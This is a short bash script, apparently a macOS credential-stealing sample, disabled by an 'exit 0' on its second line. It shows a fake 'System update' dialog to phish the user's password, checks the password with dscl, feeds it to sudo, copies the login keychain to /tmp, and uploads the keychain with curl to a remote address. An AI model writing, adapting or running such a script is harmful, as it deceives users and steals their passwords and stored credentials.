#!/bin/bash
exit 0
p=$(osascript -e 'display dialog "System update needs your password" default answer "" with hidden answer')
dscl . -authonly "$USER" "$p" || exit
echo "$p" | sudo -S true
cp ~/Library/Keychains/login.keychain-db /tmp/k
curl -s -F "f=@/tmp/k" -X POST http://203.0.113.3/k
